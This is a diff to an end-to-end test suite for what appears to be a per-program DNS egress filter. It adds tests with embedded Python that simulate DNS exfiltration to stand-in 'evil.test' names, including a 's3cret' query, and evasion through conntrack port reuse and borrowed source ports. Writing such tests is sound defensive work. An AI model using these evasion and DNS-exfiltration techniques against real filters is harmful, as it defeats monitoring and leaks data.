@@ -1,5 +1,6 @@
 import { type ChildProcess, execFileSync, spawn, spawnSync } from 'node:child_process';
-import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { chmodSync, copyFileSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { release } from 'node:os';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { asked, type Lab, reached, WORLD } from '../e2e/lab.ts';
 import {
@@ -235,6 +236,51 @@ describe('D4: asking somebody outside of the filter', () => {
   });
 });
 
+const [major = 0, minor = 0] = release().split('.').map(Number);
+const tellsMarks = major > 5 || (major === 5 && minor >= 19);
+test.skipIf(!tellsMarks)(
+  `D5: a question whose source port conntrack had to change is nobody’s, not that of who had the other port before${tellsMarks ? '' : ' (skipped: before Linux 5.19 the mark of a datagram is not told)'}`,
+  async () => {
+    const inJob = (...argv: string[]): void => void execFileSync('ip', ['netns', 'exec', lab.job, ...argv], { stdio: 'pipe' });
+    const other = `${lab.directory}/other-program`;
+    copyFileSync(PYTHON_EXE, other);
+    chmodSync(other, 0o755);
+    const question = `
+import os, socket, struct, sys, time
+def question(name): return struct.pack('!6H', 7, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + struct.pack('!BHH', 0, 1, 1)
+`;
+    // Every tenth port was another program's; then one socket asks many servers: the way from its port to ours is that of its first flow.
+    const before = `${question}
+for port in range(2000, 62000, 10):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    try: s.bind(('127.0.0.1', port)); s.sendto(question('other.evil.test'), ('127.0.0.53', 53))
+    except OSError: pass
+    s.close()`;
+    const after = `${question}
+time.sleep(3)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('127.0.0.1', 1999))
+for n in range(1, 100): s.sendto(question(f'n{n}.mine.evil.test'), (f'127.0.1.{n}', 53)); time.sleep(0.002)
+time.sleep(1)`;
+    // Conntrack changes ports to those that it has forgotten.
+    const timeout = 'net.netfilter.nf_conntrack_udp_timeout';
+    const files = { before: `${lab.directory}/ports-before.py`, after: `${lab.directory}/ports-then.py` };
+    writeFileSync(files.before, before);
+    writeFileSync(files.after, after);
+    const saved = execFileSync('ip', ['netns', 'exec', lab.job, 'sysctl', '-n', timeout], { encoding: 'utf8' }).trim();
+    inJob('sysctl', '-qw', `${timeout}=1`);
+    try {
+      const caught = await lab.run(['sh', '-c', `${other} ${files.before}; ${PYTHON} ${files.after}`], { policy: POLICY });
+      const mine = caught.log.filter(({ name }) => name?.endsWith('.mine.evil.test'));
+      expect(mine.length).toBeGreaterThan(50);
+      expect(mine.filter(({ exe }) => exe === other)).toEqual([]);
+      expect(mine).toContainEqual(expect.objectContaining({ exe: PYTHON_EXE }));
+      expect(evil(asked(caught))).toEqual([]);
+    } finally {
+      inJob('sysctl', '-qw', `${timeout}=${saved}`);
+    }
+  },
+);
+
 describe('D7: answers that lie', () => {
   const hex = (ip: string): string =>
     ip
@@ -363,12 +409,31 @@ for i in range(4):
       inJob('sysctl', '-qw', 'net.ipv4.ip_unprivileged_port_start=0');
       await serve(lab.job, 'local-dns.py', address, `${port}`, WORLD.dns);
       nat('-A');
+      // As on a machine with a firewall: conntrack knows flows from before a run.
+      inJob('iptables', '-A', 'INPUT', '-m', 'conntrack', '--ctstate', 'ESTABLISHED', '-j', 'ACCEPT');
       writeFileSync(path(), `nameserver ${address}\n`);
     });
     afterAll(() => {
       writeFileSync(path(), saved);
       nat('-D');
+      inJob('iptables', '-D', 'INPUT', '-m', 'conntrack', '--ctstate', 'ESTABLISHED', '-j', 'ACCEPT');
       inJob('sysctl', '-qw', 'net.ipv4.ip_unprivileged_port_start=1024');
+    });
+
+    test('answers nobody past the filter, from the port of somebody outside who asked a moment ago', async () => {
+      // Without the filter the program is that somebody.
+      const ask = `import socket, struct
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.bind(('127.0.0.1', 40404)); s.connect(('${address}', 53))
+try: s.send(struct.pack('!6H', 7, 0x100, 1, 0, 0, 0) + b'\\x06s3cret\\x04evil\\x04test\\0\\0\\1\\0\\1'); print('answer', len(s.recv(512)) > 12)
+except OSError as error: print('refused', error)`;
+      const { free, caught } = await attack(lab, [PYTHON, '-c', ask], { policy: POLICY });
+      expect(free.stdout).toContain('answer True');
+      expect(evil(asked(free))).toEqual(['s3cret.evil.test']);
+      expect(evil(asked(caught))).toEqual([]);
+      expect(caught.stdout).toContain('refused');
+      expect(denials(caught)).toContainEqual(
+        expect.objectContaining({ type: 'ip', protocol: 'udp', dst_ip: address, exe: PYTHON_EXE, uid: 65534 }),
+      );
     });
 
     test("is nobody else's to take", async () => {
